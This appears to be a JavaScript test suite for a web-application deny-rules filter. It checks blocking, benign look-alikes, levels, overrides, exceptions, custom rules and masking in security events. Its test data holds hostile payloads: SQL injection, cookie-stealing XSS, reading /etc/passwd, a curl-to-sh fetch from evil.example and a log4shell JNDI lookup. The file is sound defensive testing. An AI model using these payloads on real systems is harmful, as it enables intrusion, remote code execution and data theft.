// Deny rules through the Node proxy-wasm host (release build): attacks blocked at every
// location at Standard, look-alikes passing, the levels, every override, exception and
// custom-rule form, LogOnly, and the security event's fields. Hand-made samples only.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { denyFilter, at, get, post, events, counter, blockedCounter, loggedCounter } from "./support.js";

const ATTACKS = {
  sqli: { value: "1' UNION SELECT username, password FROM users--", keys: ["SQL"], at: ["query", "form", "json", "header", "userAgent", "cookie", "path", "graphql"] },
  xss: { value: "<img src=x onerror=alert(document.cookie)>", keys: ["XSS"], at: ["query", "form", "json", "header", "userAgent", "cookie", "path", "graphql", "filename"] },
  shell: { value: "x; cat /etc/passwd", keys: ["UNIXCMD"], at: ["query", "form", "json", "header", "userAgent", "cookie", "graphql"] },
  substitution: { value: "$(curl -s http://evil.example/x.sh | sh)", keys: ["UNIXCMD"], at: ["path"] },
  traversal: { value: "../../../../etc/passwd", keys: ["IDOR"], at: ["query", "form", "json", "header", "cookie", "path", "graphql", "filename"] },
  // The ldap: URL is also an SSRF shape; either rule may be the first to block.
  log4shell: { value: "${jndi:ldap://evil.example:1389/a}", keys: ["EXPLOIT", "SSRF"], at: ["query", "form", "json", "header", "userAgent", "cookie", "path", "graphql", "filename"] },
};

const LOCATION_TYPES = {
  query: "Parameter", form: "Parameter", json: "JSON", header: "Header", userAgent: "Header", cookie: "Cookie",
  path: "Path", graphql: "GraphQL", filename: "Parameter",
};

const BENIGN = [
  "O'Brien", "Ada O'Brien-Smith", "please select a plan that fits", "drop shipping from Europe",
  "## Notes\n\n* item one\n* item **bold** and `code`\n\n[docs](https://example.com/docs?a=1&b=2)",
  "Run `npm install --save-dev eslint` and then `npx eslint src/`",
  "for (let i = 0; i < n; i++) { total += prices[i]; }",
  "SELECT is a keyword; I'd select the red one", "red running shoes size 42",
  "https://example.com/search?q=shoes&page=2", "cats & dogs; more later", "What is 1+1? Not sure.",
  "C:\\Users\\ada\\Documents\\report.docx", "<3 love it", "the file is at /home/ada/notes.txt",
];

let standard;
before(async () => { standard = await denyFilter(); });
after(() => standard.close());

for (const [name, a] of Object.entries(ATTACKS)) {
  test(`${name} is blocked at Standard at ${a.at.join(", ")}`, async () => {
    for (const where of a.at) {
      const r = await standard.simulate(at[where](a.value));
      assert.equal(r.status, 400, `${name} at ${where}`);
      const ev = events(r);
      assert.equal(ev.length, 1, `one event for ${name} at ${where}`);
      assert.ok(a.keys.includes(ev[0].rule_key), `${name} at ${where}: ${ev[0].rule_id}`);
      assert.equal(ev[0].location_type, LOCATION_TYPES[where], `${name} at ${where}`);
      assert.equal(r.local.details, "bulwark_request_blocked_deny_rules");
      assert.equal(r.upstreamRequest?.body ?? null, null, "nothing reached the upstream");
    }
  });
}

test("look-alikes pass at Standard in query, form, JSON, GraphQL and cookies", async () => {
  for (const v of BENIGN) {
    for (const where of ["query", "form", "json", "graphql", "cookie"]) {
      const r = await standard.simulate(at[where](v));
      assert.equal(r.status, 200, `${JSON.stringify(v)} at ${where}: ${JSON.stringify(events(r)[0])}`);
    }
  }
  // Cookies are also inspected URL-decoded with '+' as space (PHP reads them so): ordinary
  // form-encoded cookie values still pass.
  for (const v of BENIGN) {
    const r = await standard.simulate(get("/", { cookie: `pref=${encodeURIComponent(v).replace(/%20/g, "+")}` }));
    assert.equal(r.status, 200, `${JSON.stringify(v)} as a '+'-encoded cookie: ${JSON.stringify(events(r)[0])}`);
  }
  const links = post("/api/links", "application/json", JSON.stringify({
    links: ["https://example.com/a", "http://cdn.example.org/img.png?w=100&h=80"], homepage: "https://ada.example.com/", count: 2,
  }));
  assert.equal((await standard.simulate(links)).status, 200);
});

test("the event names rule, level, location and a short fragment; the counter counts it", async () => {
  const r = await standard.simulate(at.query("1' UNION SELECT username, password FROM users WHERE id=1 OR 1=1 ORDER BY 2-- trailing text that is long"));
  assert.equal(r.status, 400);
  const [e] = events(r);
  assert.equal(e.type, "security_event");
  assert.equal(e.block_type, "deny_rules");
  assert.equal(e.block_subtype, "sql");
  assert.match(e.rule_id, /^BW-SQL-\d{4}$/);
  assert.equal(e.rule_key, "SQL");
  assert.ok(["Basic", "Standard"].includes(e.level));
  assert.equal(e.location_type, "Parameter");
  assert.equal(e.location, "query:q");
  assert.ok(e.fragment.length > 0 && e.fragment.length <= 48, e.fragment);
  assert.equal(e.action, "block");
  assert.equal(e.request_id, "0f6b1c1e-5d55-4c1e-9d0b-6a7f8f9e0a11");
  assert.equal(e.policy, "default");
  assert.equal(e.method, "GET");
  assert.ok(e.time);
  assert.ok(counter(standard, blockedCounter("deny_rules", "sql")) >= 1);
  assert.equal(r.local.status, 400);
  assert.doesNotMatch(r.local.body.toString(), /UNION/i, "the block page does not echo input");
});

test("events never carry secrets: cookies, credentials and secret-looking names are masked", async () => {
  const cases = [
    [at.cookie("<script>alert(1)</script>"), "cookie:pref"],
    [get("/", { authorization: "Bearer <script>alert(1)</script>" }), "header:authorization"],
    [get("/", { "x-api-key": "<script>alert(1)</script>" }), "header:x-api-key"],
    [post("/login", "application/x-www-form-urlencoded", `user=ada&password=${encodeURIComponent("' OR '1'='1' --")}`), "post:password"],
    [post("/login", "application/json", JSON.stringify({ user: "ada", credentials: { sessionToken: "<script>alert(1)</script>" } })), "$.credentials.sessionToken"],
  ];
  for (const [req, location] of cases) {
    const r = await standard.simulate(req);
    assert.equal(r.status, 400, location);
    const [e] = events(r);
    assert.equal(e.location, location);
    assert.equal(e.fragment, "***", location);
    const line = r.logs.map((l) => l.message).join("\n");
    assert.doesNotMatch(line, /script>|OR '1'/, `${location}: the value appears in no log line`);
  }
});

test("each level: Unfiltered inspects nothing, Basic ⊂ Standard ⊂ Strict", async () => {
  const samples = {
    "1 AND 1=1": [200, 400, 400, 400],
    "<iframe src=\"https://evil.example/\"></iframe>": [200, 200, 400, 400],
    "{{7*7}}": [200, 200, 400, 400],
    "docs/../img/a.png": [200, 200, 200, 400],
    "red running shoes": [200, 200, 200, 200],
  };
  const levels = ["Unfiltered", "Basic", "Standard", "Strict"];
  for (let l = 0; l < levels.length; l++) {
    const host = l === 2 ? standard : await denyFilter({ level: levels[l], threatHandlingMode: "Block" });
    try {
      for (const [v, expected] of Object.entries(samples)) {
        assert.equal((await host.simulate(at.query(v))).status, expected[l], `${JSON.stringify(v)} at ${levels[l]}`);
      }
    } finally {
      if (l !== 2) host.close();
    }
  }
});

test("overrides: by rule key, by type, by both, level and mode", async () => {
  const host = await denyFilter({
    level: "Standard", threatHandlingMode: "Block",
    overrides: [
      { ruleKeys: ["IDOR"], level: "Strict" },                                    // key only, level up
      { types: ["Header"], level: "Unfiltered" },                                 // type only, off
      { ruleKeys: ["XSS"], types: ["JSON"], threatHandlingMode: "LogOnly" },      // key + type, mode
      { ruleKeys: ["TEMPLATE"], level: "Basic" },                                 // key only, level down
    ],
  });
  try {
    assert.equal((await host.simulate(at.query("docs/../img/a.png"))).status, 400, "IDOR at Strict");
    assert.equal((await host.simulate(at.header("<script>alert(1)</script>"))).status, 200, "headers off");
    assert.equal((await host.simulate(at.userAgent("' OR '1'='1' --"))).status, 200, "headers off");
    assert.equal((await host.simulate(at.query("<script>alert(1)</script>"))).status, 400, "XSS still blocks in parameters");
    const r = await host.simulate(at.json("<script>alert(1)</script>"));
    assert.equal(r.status, 200, "XSS in JSON only logged");
    assert.equal(events(r)[0].action, "log_only");
    assert.equal((await host.simulate(at.json("' OR '1'='1' --"))).status, 400, "SQL in JSON still blocks");
    assert.equal((await host.simulate(at.query("{{7*7}}"))).status, 200, "TEMPLATE down to Basic");
  } finally {
    host.close();
  }
});

test("LogOnly lets attacks through, writes the event and counts it as logged", async () => {
  const host = await denyFilter({ level: "Standard", threatHandlingMode: "LogOnly" });
  try {
    const r = await host.simulate(at.query("<script>alert(1)</script>"));
    assert.equal(r.status, 200);
    const ev = events(r);
    assert.ok(ev.length >= 1);
    for (const e of ev) assert.equal(e.action, "log_only");
    assert.ok(r.logs.some((l) => l.message.startsWith("{\"type\":\"security_event\"") && l.level === 2), "info level");
    assert.equal(counter(host, loggedCounter("deny_rules", "xss")), ev.filter((e) => e.rule_key === "XSS").length);
    assert.equal(counter(host, blockedCounter("deny_rules", "xss")), 0);
  } finally {
    host.close();
  }
});

// The detectors of a value run after its pattern hits are decided (deny/scan.ts deferDetectors):
// when those let the request go on, the detector hits must still be reported, after them.
test("LogOnly: pattern hits and then detector hits of one value are all reported, in order", async () => {
  const host = await denyFilter({ level: "Standard", threatHandlingMode: "LogOnly" });
  try {
    const r = await host.simulate(at.query(ATTACKS.sqli.value));
    assert.equal(r.status, 200);
    const ids = events(r).map((e) => e.rule_id);
    assert.ok(ids.includes("BW-SQL-0003"), ids.join());
    assert.ok(ids.includes("BW-SQL-0100"), `the SQL detector's rule too: ${ids.join()}`);
    assert.ok(ids.indexOf("BW-SQL-0003") < ids.indexOf("BW-SQL-0100"), "patterns first");
  } finally {
    host.close();
  }
});

const BAD = "<script>alert(1)</script>";

test("exceptions exempt only the item they describe", async () => {
  const host = await denyFilter({
    level: "Standard", threatHandlingMode: "Block",
    exceptions: [
      { ruleKeys: ["XSS"], parameter: { name: { exact: "html" }, source: "Query" } },
      { header: { name: { exact: "X-Template" } } },
      { path: { prefix: "/wiki/" }, ruleKeys: ["XSS"] },
      { pathSegment: { value: { exact: "etc" }, index: 1 } },
      { ruleKeys: ["XSS", "HTML"], json: { jsonPath: "$.comment.body" } },
      { graphQL: { argument: { exact: "html" } } },
      { ruleKeys: ["SQL"], requestConditions: { path: { prefix: "/sql-console" }, methods: ["POST"] } },
    ],
  });
  try {
    const pass = async (req, why) => assert.equal((await host.simulate(req)).status, 200, why);
    const block = async (req, why, location) => {
      const r = await host.simulate(req);
      assert.equal(r.status, 400, why);
      if (location) assert.equal(events(r)[0].location, location, why);
    };
    // parameter
    await pass(get(`/p?html=${encodeURIComponent(BAD)}`), "the exempted parameter");
    await block(get(`/p?html=${encodeURIComponent(BAD)}&other=${encodeURIComponent(BAD)}`), "a second bad parameter", "query:other");
    await block(get(`/p?html=${encodeURIComponent("' OR '1'='1' --")}`), "another rule key");
    await block(post("/p", "application/x-www-form-urlencoded", `html=${encodeURIComponent(BAD)}`), "another source", "post:html");
    // header
    await pass(get("/", { "x-template": BAD }), "the exempted header");
    await block(get("/", { "x-template": BAD, referer: BAD }), "a second bad header", "header:referer");
    // path
    await pass(get(`/wiki/${encodeURIComponent(BAD)}`), "the exempted path");
    await block(get(`/wiki/${encodeURIComponent(BAD)}?q=${encodeURIComponent(BAD)}`), "a bad parameter on the exempted path", "query:q");
    await block(get(`/blog/${encodeURIComponent(BAD)}`), "another path", "path");
    // path segment
    await pass(get("/files/etc/passwd"), "the exempted segment");
    await block(get("/etc/passwd"), "the segment at another index", "path");
    // json
    await pass(at.json(BAD), "the exempted property");
    await block(post("/api", "application/json", JSON.stringify({ comment: { body: BAD, title: BAD } })), "a sibling", "$.comment.title");
    // GraphQL
    await pass(post("/graphql", "application/json", JSON.stringify({ query: `mutation { post(html: ${JSON.stringify(BAD)}) { id } }` })), "the exempted argument");
    await block(post("/graphql", "application/json", JSON.stringify({ query: `mutation { post(html: ${JSON.stringify(BAD)}, title: ${JSON.stringify(BAD)}) { id } }` })), "another argument", "graphql:mutation.post(title)");
    // request conditions only: every item, one rule key, matching requests only
    await pass(post("/sql-console", "application/x-www-form-urlencoded", `sql=${encodeURIComponent("' OR '1'='1' --")}`), "conditions match");
    await block(post("/sql-console", "application/x-www-form-urlencoded", `sql=${encodeURIComponent(BAD)}`), "another rule key");
    await block(get(`/sql-console?sql=${encodeURIComponent("' OR '1'='1' --")}`), "another method");
  } finally {
    host.close();
  }
});

test("custom rules of every blockData kind, with modes and conditions", async () => {
  const host = await denyFilter({
    level: "Unfiltered", threatHandlingMode: "Block",
    customRules: [
      { ruleKey: "NO_DEBUG_PARAM", threatHandlingMode: "Block", parameter: { name: { exact: "debug", ignoreCase: true } } },
      { ruleKey: "NO_ADMIN_FROM_OUTSIDE", threatHandlingMode: "LogOnly", requestConditions: { remoteIP: { cidrRanges: ["10.0.0.0/8"], invert: true } }, path: { prefix: "/admin" } },
      { ruleKey: "NO_TRACE", threatHandlingMode: "Block", header: { name: { exact: "X-Trace" }, value: { exact: "on" } } },
      { ruleKey: "NO_V0", threatHandlingMode: "Block", pathSegment: { value: { exact: "v0" }, index: 1 } },
      { ruleKey: "NO_INTERNAL", threatHandlingMode: "Block", pathSegment: { value: { exact: "internal" } } },
      { ruleKey: "NO_ROLE_ADMIN", threatHandlingMode: "Block", json: { key: { exact: "role" }, value: { exact: "admin" } } },
      { ruleKey: "NO_INTROSPECTION", threatHandlingMode: "Block", graphQL: { field: { exact: "__schema" } } },
    ],
  });
  try {
    let r = await host.simulate(get("/x?DEBUG=1"));
    assert.equal(r.status, 400);
    const [e] = events(r);
    assert.deepEqual(
      { id: e.rule_id, key: e.rule_key, level: e.level, type: e.location_type, loc: e.location, sub: e.block_subtype, frag: e.fragment },
      { id: "custom:NO_DEBUG_PARAM", key: "NO_DEBUG_PARAM", level: "Custom", type: "Parameter", loc: "query:DEBUG", sub: "custom_no_debug_param", frag: "1" },
    );
    assert.equal(counter(host, blockedCounter("deny_rules", "custom_no_debug_param")), 1);
    assert.equal((await host.simulate(post("/x", "application/x-www-form-urlencoded", "debug=1"))).status, 400, "form parameters too");
    r = await host.simulate(get("/admin/users"));
    assert.equal(r.status, 200, "LogOnly");
    assert.equal(events(r)[0].rule_id, "custom:NO_ADMIN_FROM_OUTSIDE");
    assert.equal(counter(host, loggedCounter("deny_rules", "custom_no_admin_from_outside")), 1);
    assert.equal((await host.simulate(get("/", { "x-trace": "on" }))).status, 400);
    assert.equal((await host.simulate(get("/", { "x-trace": "off" }))).status, 200);
    assert.equal((await host.simulate(get("/api/v0/items"))).status, 400);
    assert.equal((await host.simulate(get("/v0/api/items"))).status, 200, "segment index");
    r = await host.simulate(get("/a/b/internal/c"));
    assert.equal(events(r)[0].location, "path_segment:2");
    assert.equal((await host.simulate(post("/api", "application/json", JSON.stringify({ user: { role: "admin" } })))).status, 400);
    assert.equal((await host.simulate(post("/api", "application/json", JSON.stringify({ user: { role: "reader", name: "admin" } })))).status, 200);
    assert.equal((await host.simulate(post("/graphql", "application/json", JSON.stringify({ query: "{ __schema { types { name } } }" })))).status, 400);
    assert.equal((await host.simulate(get(`/graphql?query=${encodeURIComponent("{ __schema { types { name } } }")}`))).status, 400, "GraphQL GET");
    assert.equal((await host.simulate(post("/graphql", "application/json", JSON.stringify({ query: "{ user(id: 1) { name } }" })))).status, 200);
  } finally {
    host.close();
  }
});

test("a policy without a denyRules section inspects nothing", async () => {
  const host = await denyFilter(null);
  try {
    assert.equal((await host.simulate(at.query(BAD))).status, 200);
  } finally {
    host.close();
  }
});

test("multipart file names and cookies: parameter and header exceptions as documented", async () => {
  const host = await denyFilter({
    level: "Standard", threatHandlingMode: "Block",
    exceptions: [
      { ruleKeys: ["PHP"], parameter: { name: { exact: "plugin" }, source: "Post" } },
      { header: { name: { exact: "cookie" }, value: { prefix: "<b>" } } },
    ],
  });
  try {
    const upload = (field) => {
      const b = "----x";
      return post("/upload", `multipart/form-data; boundary=${b}`,
        `--${b}\r\nContent-Disposition: form-data; name="${field}"; filename="shell.php"\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--${b}--\r\n`);
    };
    assert.equal((await host.simulate(upload("plugin"))).status, 200, "the exempted field's file name");
    const r = await host.simulate(upload("avatar"));
    assert.equal(r.status, 400, "another field");
    // The file name is in the part's Content-Disposition header and in the file item; either may block first.
    assert.ok(["part:0:content-disposition", "filename:avatar"].includes(events(r)[0].location), events(r)[0].location);
    assert.equal((await host.simulate(get("/", { cookie: `a=${encodeURIComponent("<b><script>alert(1)</script>")}` }))).status, 400,
      "cookie values are inspected as sent (percent-encoded here): the prefix does not match");
    assert.equal((await host.simulate(get("/", { cookie: "a=<b><script>alert(1)</script>" }))).status, 200, "the exempted cookie value");
    assert.equal((await host.simulate(get("/", { cookie: "a=<i><script>alert(1)</script>" }))).status, 400, "another cookie value");
  } finally {
    host.close();
  }
});

test("threat counters count every block under its own rule key, whatever the order of keys", async () => {
  const host = await denyFilter();
  try {
    // Interleaved keys, so a counter looked up by a stale or colliding entry would show.
    const seq = ["sqli", "xss", "traversal", "sqli", "shell", "xss", "sqli", "traversal", "shell", "sqli"];
    const keys = { sqli: "sql", xss: "xss", traversal: "idor", shell: "unixcmd" };
    for (const name of seq) assert.equal((await host.simulate(at.query(ATTACKS[name].value))).status, 400, name);
    for (const [name, key] of Object.entries(keys)) {
      assert.equal(counter(host, blockedCounter("deny_rules", key)), seq.filter((s) => s === name).length, key);
      assert.equal(counter(host, loggedCounter("deny_rules", key)), 0, key);
    }
  } finally {
    host.close();
  }
});

// With the security event line off (log level above warn) a block builds no event details
// (deny/inspect.ts Reporter.needsDetails): the decision, the reply and the counters must be
// exactly those of a filter that writes the line, and LogOnly must still report once per rule.
test("with the event line off, blocks, replies, counters and LogOnly are unchanged", async () => {
  const custom = [{ ruleKey: "NO_DEBUG_PARAM", threatHandlingMode: "Block", parameter: { name: { exact: "debug" } } }];
  const loud = await denyFilter({ level: "Standard", threatHandlingMode: "Block", customRules: custom });
  const quiet = await denyFilter({ level: "Standard", threatHandlingMode: "Block", customRules: custom }, { logLevel: "error" });
  const logOnly = await denyFilter({ level: "Standard", threatHandlingMode: "LogOnly" }, { logLevel: "error" });
  const loudLogOnly = await denyFilter({ level: "Standard", threatHandlingMode: "LogOnly" });
  try {
    const reqs = [at.query(ATTACKS.sqli.value), at.header(ATTACKS.xss.value), at.json(ATTACKS.shell.value), at.cookie(ATTACKS.traversal.value), get("/x?debug=1")];
    for (const req of reqs) {
      const a = await loud.simulate(req);
      const b = await quiet.simulate(req);
      assert.equal(a.status, 400);
      assert.equal(events(a).length, 1, "the loud filter writes the event");
      assert.equal(events(b).length, 0, "the quiet one does not");
      assert.equal(b.status, a.status);
      assert.equal(b.response.body.toString(), a.response.body.toString());
      assert.deepEqual(b.response.headers, a.response.headers);
    }
    for (const key of ["sql", "xss", "unixcmd", "idor", "custom_no_debug_param"]) {
      assert.equal(counter(quiet, blockedCounter("deny_rules", key)), counter(loud, blockedCounter("deny_rules", key)), key);
      assert.ok(counter(quiet, blockedCounter("deny_rules", key)) >= 1, key);
    }
    // The same SQL value twice in one request: each rule reported once, the request passes,
    // exactly as with the line on.
    const twice = get(`/s?a=${encodeURIComponent(ATTACKS.sqli.value)}&b=${encodeURIComponent(ATTACKS.sqli.value)}`);
    const r = await logOnly.simulate(twice);
    const l = await loudLogOnly.simulate(twice);
    assert.equal(r.status, 200);
    assert.equal(counter(logOnly, loggedCounter("deny_rules", "sql")), events(l).length);
    assert.ok(events(l).length >= 1);
  } finally {
    loud.close(); quiet.close(); logOnly.close(); loudLogOnly.close();
  }
});

// JSON keys found clean once per body are not scanned again when the same key token repeats
// (deny/inspect.ts isCleanKey): a key of the same length with other bytes, or the same text
// escaped, must still be scanned; and nothing carries over to the next body.
test("repeated JSON keys: a look-alike key later in the body is still scanned, and nothing carries over", async () => {
  const host = await denyFilter();
  try {
    const evil = "<script>alert(1)</script>";
    const pad = "x".repeat(evil.length);
    const rows = Array.from({ length: 40 }, (_, i) => ({ [pad]: i, sku: `SKU-${i}` }));
    const clean = await host.simulate(post("/api/orders", "application/json", JSON.stringify({ items: rows })));
    assert.equal(clean.status, 200);
    for (const key of [evil, evil.replace("<", "\\u003c")]) {
      const body = JSON.stringify({ items: rows }).replace(/\]\}$/, `,{"${key}":1}]}`);
      JSON.parse(body);
      const r = await host.simulate(post("/api/orders", "application/json", body));
      assert.equal(r.status, 400, key);
      assert.ok(events(r).some((e) => e.location_type === "JSON"), key);
    }
    assert.equal((await host.simulate(post("/api/orders", "application/json", JSON.stringify({ items: rows })))).status, 200);
  } finally {
    host.close();
  }
});
